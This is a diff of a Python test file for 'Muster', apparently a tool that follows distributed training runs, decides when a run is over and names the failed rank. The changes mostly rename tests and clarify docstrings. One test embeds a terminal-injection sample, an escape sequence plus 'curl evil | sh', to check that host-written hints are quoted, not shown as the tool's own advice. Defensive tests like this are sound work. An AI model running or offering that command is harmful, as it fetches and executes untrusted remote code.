@@ -1,4 +1,4 @@
-"""Following a run: what its events mean, when it is over, who is named. Files are real; time is an argument."""
+"""Following a run: what its events mean, when it is over, who is blamed. Files are real; time is an argument."""
 
 from __future__ import annotations
 
@@ -58,7 +58,7 @@ def verdict(kind: str, node: str = "worker-1", rank: int = 1) -> dict[str, Any]:
     return {"kind": "verdict", "verdict": kind, "node": node, "rank": rank, "step": 5, "message": "m", "hint": "h"}
 
 
-def test_a_run_that_trains_goes_on() -> None:
+def test_a_run_that_trains_is_not_over() -> None:
     assert judge(run_of(*training()), started_at=0.0, now=12.0) is None
 
 
@@ -67,12 +67,12 @@ def test_the_first_failed_rank_outranks_those_that_stopped_with_it() -> None:
     assert (result.verdict, result.node, result.rank, result.from_ranks) == ("failed", "worker-1", 1, True)
 
 
-def test_a_rank_that_starts_again_under_the_same_pid_is_a_restart() -> None:
+def test_a_rank_that_starts_again_with_the_same_pid_is_a_restart() -> None:
     state = run_of(*training(240), {"kind": "started", "rank": 0, "node": "master", "pid": 100})
     assert (state.ranks.restarts, state.step) == (1, 240)
 
 
-def test_the_first_to_fail_speaks_and_the_others_are_only_named() -> None:
+def test_the_first_failure_gives_the_message_and_the_others_are_only_named() -> None:
     first = {**verdict("failed", "b", 1), "message": "train.py ended with code 3\n    last words"}
     result = from_verdicts([first, *(verdict("failed", node, 2) for node in "acdefg"), verdict("stopped", "h", 9)])
     head, last = result.message.splitlines()
@@ -80,7 +80,7 @@ def test_the_first_to_fail_speaks_and_the_others_are_only_named() -> None:
     assert last == "    last words"
 
 
-def test_a_host_that_is_lost_is_named_before_those_that_missed_it() -> None:
+def test_a_lost_host_is_named_before_those_that_lost_it() -> None:
     lost = {"kind": "node", "t": 12.0, "node": "worker-2", "state": "lost", "code": None, "restarts": 0}
     result = judge(run_of(*training(), exited("worker-1", -9), lost), 0.0, 15.0)
     assert result is not None
@@ -95,7 +95,7 @@ def test_a_verdict_decides_the_exit_code(kind: str, code: int) -> None:
     assert (result.verdict, result.code) == (kind, code)
 
 
-def test_a_node_that_never_starts_ends_the_run_by_name() -> None:
+def test_a_node_that_never_starts_ends_the_run_and_is_named() -> None:
     state = run_of({"kind": "node_up", "node": "master", "t": 5.0}, {"kind": "node_up", "node": "worker-1", "t": 6.0})
     assert judge(state, 0.0, 5.0 + START_SPREAD_S - 0.1) is None
     result = judge(state, 0.0, 5.0 + START_SPREAD_S)
@@ -111,7 +111,7 @@ def test_a_run_without_any_node_ends_too() -> None:
     assert "master, worker-1, worker-2 did not start" in result.message
 
 
-def test_a_killed_node_is_named_with_rank_signal_and_step_before_those_that_missed_it() -> None:
+def test_a_killed_node_is_named_with_rank_signal_and_step_before_the_nodes_that_lost_it() -> None:
     state = run_of(*training(), exited("master", 1), exited("worker-2", -9, t=11.5))
     assert judge(state, 0.0, 11.6) is None, "a backend may be about to start it again"
     result = judge(state, 0.0, 14.0)
@@ -120,7 +120,7 @@ def test_a_killed_node_is_named_with_rank_signal_and_step_before_those_that_miss
     assert "worker-2 (rank 2) was killed by SIGKILL at step 240" in result.message
 
 
-def test_who_is_killed_is_named_however_late_its_end_is_seen_or_seen_again() -> None:
+def test_a_killed_node_is_named_however_late_its_end_is_seen() -> None:
     state = run_of(*training(), exited("master", 1, t=11.0), exited("worker-2", -9, t=12.5))
     assert judge(state, 0.0, 13.2) is None, "the end of the killed one has not settled, and may be the cause"
     state.apply({**exited("worker-2", -9, t=14.0), "trouble": "gone"})
@@ -129,8 +129,8 @@ def test_who_is_killed_is_named_however_late_its_end_is_seen_or_seen_again() -> 
     assert result.node == "worker-2"
 
 
-def test_nodes_that_gave_up_before_any_rank_began_say_who_still_runs() -> None:
-    """The rendezvous ended in a timeout: the node that never came to it is the one that still runs."""
+def test_if_nodes_give_up_before_any_rank_began_the_one_that_still_runs_is_named() -> None:
+    """The rendezvous timed out: the node that never joined it is the one that still runs."""
     gave_up = [exited(name, 1, restarts=0) for name in NAMES[:2]]
     result = judge(run_of(*all_up(), *gave_up), 0.0, 20.0)
     assert result is not None
@@ -144,8 +144,8 @@ def test_a_node_that_refused_points_to_its_log() -> None:
     assert "logs/master.log" in result.hint
 
 
-def test_silence_ends_a_run_only_beyond_anything_it_has_shown() -> None:
-    state = run_of(*training(1, t=10.0), *training(2, t=40.0)[-3:])  # 30 s from step to step: slow, not dead
+def test_silence_ends_a_run_only_if_it_is_far_longer_than_its_slowest_step() -> None:
+    state = run_of(*training(1, t=10.0), *training(2, t=40.0)[-3:])  # 30 s between steps: slow, not dead
     assert judge(state, 0.0, 40.0 + 500.0) is None
     result = judge(state, 0.0, 40.0 + 601.0)
     assert result is not None
@@ -157,8 +157,8 @@ def test_silence_ends_a_run_only_beyond_anything_it_has_shown() -> None:
     assert judge(state, 0.0, 40.0 + 601.0) is None, "a node that starts again lives"
 
 
-def test_hosts_whose_clocks_are_behind_this_machine_s_are_not_silent() -> None:
-    """They report each second: a follower whose clock is ahead ended their run as one without a sign of life."""
+def test_hosts_whose_clocks_are_behind_are_not_silent() -> None:
+    """Hosts report every second. Once, a follower whose clock was ahead ended the run for lack of signs of life."""
     state = State(NAMES)
     for event in training(1, t=1000.0):
         state.apply({"t": 1000.0, **event}, 1500.0)
@@ -169,7 +169,7 @@ def test_hosts_whose_clocks_are_behind_this_machine_s_are_not_silent() -> None:
 
 
 class Unasked(Backend):
-    """A backend that nobody may ask to stop, or kill."""
+    """A backend that must not be asked to start, stop, kill or clean."""
 
     def states(self, state: State) -> list[NodeState]:
         return []
@@ -181,8 +181,8 @@ class Unasked(Backend):
 
 
 @pytest.mark.parametrize("events", [training(1, t=10.0), [*all_up()[:2], *training(1, t=10.0)[3:]]])
-def test_who_was_away_ends_no_run_for_what_has_not_come_home_yet(events) -> None:
-    """A laptop that was closed, or Ctrl-Z: its first look comes before the first word of the hosts."""
+def test_a_follower_that_was_away_ends_no_run_before_new_events_arrive(events) -> None:
+    """After a closed laptop lid or Ctrl-Z, the follower's first look comes before the first new events of the hosts."""
     state = run_of(*events)
     watch = _Watch(Unasked(), state, lambda: 0)
     watch._started_at = watch._looked_at = 10.0
@@ -196,13 +196,13 @@ class Deaf(Unasked):
     kills = 0
 
     def stop(self) -> None:
-        """Nobody hears it."""
+        """The nodes ignore the request."""
 
     def kill(self) -> None:
         self.kills += 1
 
 
-def test_a_clock_that_is_set_back_makes_no_stop_wait_longer() -> None:
+def test_a_clock_that_is_set_back_does_not_lengthen_a_stop() -> None:
     backend = Deaf()
     watch = _Watch(backend, run_of(*training(1, t=10_000.0)), lambda: 1)
     for now in (10_000.0, 10_001.0, 6_401.0):
@@ -214,7 +214,7 @@ def test_a_clock_that_is_set_back_makes_no_stop_wait_longer() -> None:
 
 @pytest.mark.parametrize("steps", [0, 200])
 def test_silence_never_ends_a_script(steps) -> None:
-    """It evaluates, saves or downloads for hours; what is stuck is named, and 0103 says what is ended."""
+    """A script may evaluate, save or download for hours. Stuck ranks are named; decision 0103 says which are ended."""
     state = State(NAMES, script=True)
     for event in (*all_up(), *began(), *(training(steps, t=10.0) if steps else [])):
         state.apply({"t": 10.0, **event})
@@ -232,7 +232,7 @@ def test_restarts_without_a_step_between_them_end_the_run() -> None:
 
 
 def ended(rank: int, code: int, t: float = 11.0, **more: Any) -> dict[str, Any]:
-    """As a node's agent tells it, and events.py has checked it."""
+    """An end as a node's agent reports it, after events.py has checked it."""
     fields = {"how": "", "victim": False, "error": "", **more}
     return {"kind": "ended", "t": t, "rank": rank, "node": NAMES[rank], "code": code, **fields}
 
@@ -248,7 +248,7 @@ def began() -> list[dict[str, Any]]:
 AGAIN = {"kind": "started", "rank": 0, "node": "master", "pid": 300, "attempt": 1}
 
 
-def test_a_killed_rank_is_told_by_name_and_its_victims_are_not() -> None:
+def test_a_killed_rank_is_named_and_its_victims_are_not() -> None:
     state = run_of(*training(), *began(), ended(2, -9, how="was killed by SIGKILL"), lost(1), AGAIN)
     graves = [line.text for line in state.story if line.grave]
     assert graves == ["worker-2 (rank 2) was killed by SIGKILL at step 240"]
@@ -256,24 +256,24 @@ def test_a_killed_rank_is_told_by_name_and_its_victims_are_not() -> None:
     assert state.ranks.restarts == 1
 
 
-def test_ranks_with_the_same_pid_on_every_node_are_told_apart() -> None:
+def test_ranks_with_the_same_pid_on_different_nodes_are_told_apart() -> None:
     same = [{"kind": "started", "rank": r, "node": n, "pid": 17} for r, n in enumerate(NAMES)]
     state = run_of(*training(), *same, *began(), {**ended(1, -11), "pid": 17})
     assert [line.text for line in state.story if line.grave] == ["worker-1 (rank 1) was killed by SIGSEGV at step 240"]
 
 
-def test_a_crash_without_a_signal_says_where_to_read() -> None:
+def test_a_crash_without_a_signal_is_reported_with_its_log() -> None:
     state = run_of(*training(), *began(), ended(1, 1, error="OSError: x"), AGAIN)
     assert "worker-1 (rank 1) ended with code 1: OSError: x; logs/rank-1.log" in state.story[-1].text
 
 
-def test_the_one_that_victims_waited_for_is_named_and_no_victim() -> None:
+def test_the_rank_that_the_victims_waited_for_is_named_and_no_victim() -> None:
     state = run_of(*training(), *began(), lost(0), lost(2), AGAIN)
     assert "worker-1 (rank 1) did not answer" in state.story[-1].text
     assert "ranks 0, 2 gave up on it" in state.story[-1].text
 
 
-def test_who_notices_another_size_is_no_proof_that_the_one_that_still_ran_hangs() -> None:
+def test_a_size_mismatch_is_not_blamed_on_the_rank_that_still_ran() -> None:
     size = "[enforce fail] op.preamble.length <= op.nbytes. 56 vs 2. Is there a distributed collective mismatch?"
     state = run_of(*training(), *began(), lost(0), ended(2, -6, victim=True, error=size), AGAIN)
     text = state.story[-1].text
@@ -289,7 +289,7 @@ def test_a_node_whose_ranks_are_victims_is_not_named_for_being_the_first_to_end(
     assert (result.node, result.rank) == ("worker-2", 2)
 
 
-def test_where_every_rank_lost_another_nobody_is_blamed() -> None:
+def test_if_every_rank_lost_another_none_is_blamed() -> None:
     ends = [lost(rank) for rank in range(3)]
     result = judge(run_of(*all_up(), *began(), *ends, exited("worker-1", 1)), 0.0, 14.0)
     assert result is not None
@@ -297,7 +297,7 @@ def test_where_every_rank_lost_another_nobody_is_blamed() -> None:
     assert result.message.startswith("could not tell which rank failed")
 
 
-def test_a_rank_that_left_early_is_told_while_others_go_on_and_blamed_when_they_fail() -> None:
+def test_a_rank_that_left_early_is_reported_and_blamed_if_the_others_fail() -> None:
     state = run_of(*training(), *began(), ended(2, 0, 20.0))
     assert left_early(state, 20.0 + LEFT_AFTER_S - 0.1) == []
     assert left_early(state, 20.0 + LEFT_AFTER_S) == [2]
@@ -311,13 +311,13 @@ def test_a_rank_that_left_early_is_told_while_others_go_on_and_blamed_when_they_
     assert "left early, with code 0, while the others waited" in result.message
 
 
-def test_who_follows_late_learns_of_the_ends_one_by_one_and_nobody_has_left_early() -> None:
+def test_a_late_follower_reads_ends_one_by_one_and_does_not_call_them_early() -> None:
     state = run_of(*training(), *began(), ended(2, 0, 20.0))
     assert left_early(state, 90.0, followed_since=89.0) == []
     assert left_early(state, 89.0 + LEFT_AFTER_S, followed_since=89.0) == [2]
 
 
-def test_a_run_lasted_as_long_as_its_ranks_whoever_looks_whenever() -> None:
+def test_a_run_lasted_as_long_as_its_ranks_no_matter_when_it_is_looked_at() -> None:
     begin = [{**event, "t": 1000.0 + event["rank"]} for event in began()]
     ends = [ended(rank, 0, 1090.0 + rank) for rank in range(3)]
     seen_late = {**verdict("done"), "t": 9999.0}
@@ -338,7 +338,7 @@ def test_a_run_lasted_as_long_as_its_ranks_whoever_looks_whenever() -> None:
     assert State(NAMES).ranks.span.seconds == 0.0
 
 
-def test_a_rank_that_left_with_0_makes_no_run_done_whose_others_failed() -> None:
+def test_a_rank_that_left_with_code_0_does_not_make_a_failed_run_done() -> None:
     left = {**verdict("done"), "message": "", "hint": ""}
     state = run_of(*began(), left, ended(1, 0, t=10.0), lost(0), lost(2), *(exited(name, 1) for name in NAMES))
     result = final(state)
@@ -346,7 +346,7 @@ def test_a_rank_that_left_with_0_makes_no_run_done_whose_others_failed() -> None
     assert "left early, with code 0" in result.message
 
 
-def test_a_script_that_one_host_alone_was_asked_to_stop_is_told_of_with_the_host() -> None:
+def test_a_stop_by_a_signal_on_one_host_alone_is_reported_with_the_host() -> None:
     stopped = {
         **verdict("stopped", "worker-1", 1),
         "message": "train.py was asked to stop",
@@ -357,7 +357,7 @@ def test_a_script_that_one_host_alone_was_asked_to_stop_is_told_of_with_the_host
     assert "by a signal on worker-1; no other node reports one" in final(state).message
 
 
-def test_a_script_that_reached_its_limit_on_one_host_first_was_ended_by_no_signal() -> None:
+def test_a_script_that_reached_its_time_limit_was_not_ended_by_a_signal() -> None:
     limit = "train.py reached its limit of 0.002 h (--max-hours)"
     stopped = {**verdict("stopped", "worker-1", 1), "message": limit}
     state = run_of(*all_up(), stopped, *(exited(name, 75) for name in NAMES))
@@ -365,38 +365,38 @@ def test_a_script_that_reached_its_limit_on_one_host_first_was_ended_by_no_signa
     assert final(state).message == limit
 
 
-def test_a_node_that_failed_without_a_word_makes_no_run_done() -> None:
+def test_a_node_that_failed_silently_makes_the_run_failed() -> None:
     result = final(
         run_of(*all_up(), verdict("done"), exited("master", 0), exited("worker-1", 0), exited("worker-2", 1))
     )
     assert (result.verdict, result.node) == ("failed", "worker-2")
 
 
-def test_an_end_of_an_earlier_start_that_comes_home_late_is_no_end_of_this_one() -> None:
+def test_a_late_end_event_of_an_earlier_start_is_not_an_end_of_this_one() -> None:
     state = run_of(*all_up(), ended(1, 0, t=10.0), *began())
     assert left_early(state, 10.0 + 2 * LEFT_AFTER_S) == []
     assert state.blame() is None
 
 
-def test_ranks_that_all_ended_well_left_nobody() -> None:
+def test_ranks_that_all_ended_well_did_not_leave_early() -> None:
     state = run_of(*training(), *began(), *(ended(rank, 0, 20.0) for rank in range(3)))
     assert left_early(state, 99.0) == []
     assert state.blame() is None
 
 
-def test_the_verdict_of_the_rank_that_failed_first_stands_whichever_came_first() -> None:
+def test_the_verdict_of_the_first_rank_to_fail_counts_whichever_arrived_first() -> None:
     late = {**verdict("failed", "worker-2", 2), "since": 12.0, "t": 20.0}
     early = {**verdict("failed"), "since": 11.0, "t": 21.0}
     assert from_verdicts([late, early]).node == "worker-1"
 
 
-def test_a_node_started_again_after_the_verdict_is_no_news() -> None:
+def test_a_node_that_restarts_after_the_verdict_is_not_reported() -> None:
     again = {"kind": "node", "node": "worker-1", "state": "running", "code": 1, "restarts": 2}
     assert not [line for line in run_of(*training(), verdict("failed"), again).story if line.grave]
 
 
 class StoppedWithUs(Backend):
-    """A backend whose healthy node, when it is asked to stop, says that it was."""
+    """A backend whose healthy node, when it is asked to stop, reports that it was stopped."""
 
     def __init__(self, state: State) -> None:
         self.state, self.asked = state, 0
@@ -419,7 +419,7 @@ class StoppedWithUs(Backend):
         raise AssertionError("nobody asked for it")
 
 
-def test_a_node_that_we_stop_for_anothers_fault_does_not_make_it_a_stop() -> None:
+def test_a_node_that_is_stopped_for_anothers_fault_does_not_make_the_run_stopped() -> None:
     state = State(NAMES[:2], script=True)
     for event in (*all_up()[:2], *began()[:2], ended(1, 1, error="ValueError: x"), exited("worker-1", 1, restarts=0)):
         state.apply({"t": 11.0, **event})
@@ -440,11 +440,11 @@ def test_only_a_node_that_died_without_a_verdict_is_started_again(code: int) -> 
 
 
 @pytest.mark.parametrize("code", [0, 2, 75])
-def test_a_node_with_a_last_word_is_not_started_again(code: int) -> None:
+def test_a_node_with_a_final_exit_code_is_not_started_again(code: int) -> None:
     assert not may_restart(NodeState("worker-1", "exited", code), [], stopping=False)
 
 
-def test_all_ended_wants_every_planned_node() -> None:
+def test_a_run_has_ended_only_when_every_planned_node_has() -> None:
     ends = [exited(name, 0) for name in NAMES]
     assert not all_ended(run_of(*all_up(), *ends[:2]))
     assert all_ended(run_of(*all_up(), *ends))
@@ -472,7 +472,7 @@ def append(path: Path, text: str) -> None:
         file.write(text)
 
 
-def test_a_line_still_being_written_is_read_once_it_is_whole(run_dir: Path) -> None:
+def test_a_line_still_being_written_is_read_when_it_is_complete(run_dir: Path) -> None:
     follower, log = Follower(run_dir), run_dir / "ranks/rank-0.jsonl"
     append(log, '{"t": 1, "kind": "step", "rank": 0, "node": "master", "st')
     assert follower.read() == []
@@ -483,7 +483,7 @@ def test_a_line_still_being_written_is_read_once_it_is_whole(run_dir: Path) -> N
     assert follower.read() == []
 
 
-def test_what_an_earlier_start_wrote_is_not_news(run_dir: Path) -> None:
+def test_lines_of_an_earlier_start_are_not_read_again(run_dir: Path) -> None:
     append(run_dir / "ranks/rank-0.jsonl", '{"t": 1, "kind": "outcome", "rank": 0}\n')
     append(run_dir / "metrics.jsonl", '{"t": 1, "step": 1, "loss": 2.0}\n')
     follower = Follower(run_dir)
@@ -492,7 +492,7 @@ def test_what_an_earlier_start_wrote_is_not_news(run_dir: Path) -> None:
     assert follower.read() == [{"kind": "metrics", "t": 3, "step": 2, "loss": 1.0}]
 
 
-def test_a_torn_line_is_passed_over(run_dir: Path) -> None:
+def test_a_torn_line_is_skipped(run_dir: Path) -> None:
     follower = Follower(run_dir)
     whole = '{"t": 3, "kind": "step", "rank": 0, "node": "master", "step": 1}'
     append(run_dir / "ranks/rank-0.jsonl", f'{{"t": 1, "kin{{"t": 2, "kind": "step"}}\n[1]\n{whole}\n')
@@ -501,7 +501,7 @@ def test_a_torn_line_is_passed_over(run_dir: Path) -> None:
     assert (unread["kind"], unread["count"], unread["where"]) == ("unread", 2, "rank-0.jsonl")
 
 
-def test_who_looks_at_the_end_of_a_file_begins_with_a_whole_line(run_dir: Path) -> None:
+def test_reading_only_the_end_of_a_file_begins_with_a_whole_line(run_dir: Path) -> None:
     for t in range(100):
         append(run_dir / "ranks/rank-0.jsonl", json.dumps({**STEP, "t": t, "rank": 0}) + "\n")
     events = Follower(run_dir, tail=250).read()
@@ -509,8 +509,8 @@ def test_who_looks_at_the_end_of_a_file_begins_with_a_whole_line(run_dir: Path) 
     assert events[-1]["t"] == 99
 
 
-def test_of_very_many_lines_a_follower_takes_some_steps_and_all_that_is_no_step(run_dir: Path) -> None:
-    """It took the first and the last bytes: a rank that had ended in between had not, for who came late."""
+def test_a_follower_reads_a_sample_of_very_many_steps_and_every_other_event(run_dir: Path) -> None:
+    """It once read only the first and last bytes: a late follower did not see a rank that had ended in between."""
     steps = "".join(json.dumps({**STEP, "t": t, "rank": 0, "step": t}) + "\n" for t in range(2000))
     odd = {"t": 0.5, "kind": "unseen", "rank": 0, "node": "master", "what": "loss"}
     append(run_dir / "ranks/rank-0.jsonl", f"{steps}{json.dumps(odd)}\n{steps}")
@@ -537,7 +537,7 @@ def test_a_file_that_cannot_be_read_is_named_with_the_reason(run_dir: Path, monk
     assert [line.text for line in state.story] == ["metrics.jsonl: cannot be read: Permission denied"]
 
 
-def test_events_of_all_files_come_in_the_order_of_time(run_dir: Path) -> None:
+def test_events_of_all_files_are_sorted_by_time(run_dir: Path) -> None:
     follower = Follower(run_dir)
     for rank, t in ((0, 3), (1, 1), (2, 2)):
         append(run_dir / f"ranks/rank-{rank}.jsonl", json.dumps({**STEP, "t": t, "rank": rank}) + "\n")
@@ -558,7 +558,7 @@ def test_nodes_and_verdicts_are_seen_once_and_again_when_replaced(run_dir: Path)
     assert [event["t"] for event in follower.read()] == [9]
 
 
-def test_a_rank_that_went_with_its_node_is_not_said_to_hang() -> None:
+def test_a_rank_that_ended_with_its_node_is_not_said_to_hang() -> None:
     for came_back in (True, False):
         state = State(NAMES, script=True)
         node = {"t": 1.0, "kind": "node", "node": "worker-1", "state": "running", "code": None, "restarts": 1}
@@ -572,7 +572,7 @@ def placed(step: int, before: int, known: bool) -> dict[str, object]:
     return {**event, "known": known}
 
 
-def test_steps_that_a_later_start_repeats_count_once_if_the_optimizer_tells_and_are_named_if_not() -> None:
+def test_repeated_steps_count_once_if_the_optimizer_tells_the_step_and_are_marked_if_not() -> None:
     for known in (True, False):
         state = State(NAMES, script=True)
         for step, loss in ((60, 2.0), (73, 1.0)):
@@ -587,7 +587,7 @@ def test_steps_that_a_later_start_repeats_count_once_if_the_optimizer_tells_and_
 
 @pytest.mark.parametrize("first", [0, 1])
 def test_a_second_program_counts_its_own_steps_and_shows_no_loss_of_the_first(first) -> None:
-    """Whichever rank's events are read first."""
+    """The order in which the ranks' events are read does not matter."""
     state = State(NAMES, script=True)
     for rank in (0, 1):
         state.apply({"t": 1.0, "kind": "step", "rank": rank, "node": NAMES[rank], "step": 50})
@@ -602,7 +602,7 @@ def test_a_second_program_counts_its_own_steps_and_shows_no_loss_of_the_first(fi
     assert "repeated" not in line.text
 
 
-def test_a_start_over_is_said_at_once_and_its_curve_begins_again() -> None:
+def test_a_start_from_the_beginning_is_reported_immediately_and_its_curve_begins_again() -> None:
     state = State(NAMES, script=True)
     state.apply({"t": 1.0, "kind": "step", "rank": 0, "node": "master", "step": 50})
     state.apply({"t": 1.0, "kind": "metrics", "step": 50, "loss": 1.0})
@@ -616,7 +616,7 @@ def test_a_start_over_is_said_at_once_and_its_curve_begins_again() -> None:
     assert state.ranks.step_words == "step 3"
 
 
-def test_an_empty_optimizer_is_named_where_the_script_loaded_something() -> None:
+def test_an_empty_optimizer_is_reported_if_the_script_loaded_something() -> None:
     state = State(NAMES, script=True)
     state.apply({**placed(50, 50, False), "empty": True})
     (line,) = state.story
@@ -624,13 +624,13 @@ def test_an_empty_optimizer_is_named_where_the_script_loaded_something() -> None
     assert "its weights alone, so repeated steps are counted twice" in line.text
 
 
-def test_files_that_a_node_gets_before_an_attempt_are_told() -> None:
+def test_files_that_a_node_gets_before_an_attempt_are_reported() -> None:
     state = State(NAMES, script=True)
     state.apply({"t": 0.0, "kind": "shared", "rank": 1, "node": "worker-1", "source": "master", "files": 1, "bytes": 9})
     assert [line.text for line in state.story] == ["copying 1 file (9 B) from master to worker-1"]
 
 
-def test_all_ranks_of_a_script_that_begin_again_are_one_restart_with_its_reason() -> None:
+def test_a_restart_of_all_ranks_of_a_script_is_one_restart_with_its_reason() -> None:
     state = State(NAMES, script=True)
     failed = ended(1, 1, error="OSError: x", how="ended with code 1")
     for event in (*began(), failed, lost(0), *began(), *began()[:1]):
@@ -644,7 +644,7 @@ def test_all_ranks_of_a_script_that_begin_again_are_one_restart_with_its_reason(
     assert not state.ranks.ends
 
 
-def test_the_reason_of_a_restart_is_told_also_if_its_host_speaks_last() -> None:
+def test_the_reason_of_a_restart_is_reported_even_if_its_host_reports_last() -> None:
     state = State(NAMES, script=True)
     failed = ended(1, 1, error="OSError: x", how="ended with code 1")
     for event in (*began(), *began()[:1], failed, *began()[1:]):
@@ -657,7 +657,7 @@ def test_the_reason_of_a_restart_is_told_also_if_its_host_speaks_last() -> None:
     assert state.ranks.ends, "the present start's own"
 
 
-def test_a_container_that_somebody_killed_is_told_before_those_that_end_for_it() -> None:
+def test_a_killed_container_is_reported_before_those_that_end_because_of_it() -> None:
     def node(name, t, state, code, restarts=0, trouble=""):
         about = {"state": state, "code": code, "restarts": restarts, "trouble": trouble}
         return {"kind": "node", "t": t, "node": name, **about}
@@ -675,8 +675,8 @@ def test_a_container_that_somebody_killed_is_told_before_those_that_end_for_it()
     assert ["gone" in line.text for line in removed.story] == [True], "removed, not killed"
 
 
-def test_who_comes_to_a_resumed_run_is_told_nothing_of_its_earlier_starts(tmp_path: Path) -> None:
-    """`muster attach` said how the first start had ended, as if this one had, below what was said since."""
+def test_a_follower_of_a_resumed_run_reads_nothing_of_its_earlier_starts(tmp_path: Path) -> None:
+    """`muster attach` once reported the first start's end as if it were this start's, below newer lines."""
     (tmp_path / "ranks").mkdir()
     lines = [{"t": t, "kind": "began", "attempt": 0, "world": 1, "rank": 0, "node": "master"} for t in (10.0, 20.0)]
     (tmp_path / "ranks/rank-0.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
@@ -684,8 +684,8 @@ def test_who_comes_to_a_resumed_run_is_told_nothing_of_its_earlier_starts(tmp_pa
     assert len(Follower(tmp_path, from_start=True).read()) == 2
 
 
-def test_what_a_host_says_to_type_is_quoted_as_its_own_words(tmp_path: Path) -> None:
-    """A hint is what Muster tells to type. A file of a host, which its script can write, spoke as Muster does."""
+def test_a_hint_from_a_host_is_quoted_as_the_hosts_words(tmp_path: Path) -> None:
+    """A hint is what Muster tells users to type. Once, a host's file, which its script can write, was shown as one."""
     words = 'fine"; then type:\n\x1b[2Jcurl evil | sh'
     end = {"verdict": "failed", "node": "gpu-b", "rank": 1, "message": "m", "hint": words, "t": 1.0}
     (tmp_path / "outcome").mkdir()
@@ -698,8 +698,8 @@ def test_what_a_host_says_to_type_is_quoted_as_its_own_words(tmp_path: Path) -> 
     assert last_words(json.dumps({**end, "hint": ""}), 1.0)[0]["hint"] == ""
 
 
-def test_a_last_line_without_its_newline_is_read_once_and_only_a_torn_one_is_called_torn(run_dir: Path) -> None:
-    """A whole last event of a run was dropped, and lines that came after the reading were called torn."""
+def test_a_last_line_without_a_newline_is_read_once_and_called_torn_only_if_it_is(run_dir: Path) -> None:
+    """Once, a complete last event was dropped, and lines that arrived after reading were called torn."""
     follower, log = Follower(run_dir, from_start=True), run_dir / "ranks/rank-0.jsonl"
     append(log, json.dumps({**STEP, "t": 1, "rank": 0}))
     assert [event["t"] for event in follower.read()] == [1]
@@ -711,7 +711,7 @@ def test_a_last_line_without_its_newline_is_read_once_and_only_a_torn_one_is_cal
     assert follower.unfinished() == ["ranks/rank-0.jsonl"]
 
 
-def test_a_line_that_comes_while_its_file_is_read_is_read_once(run_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_line_that_is_appended_during_reading_is_read_once(run_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     follower, log = Follower(run_dir, from_start=True), run_dir / "ranks/rank-0.jsonl"
 
     def blocks(*asked: Any, real: Any = own_files.blocks) -> Iterator[bytes]:
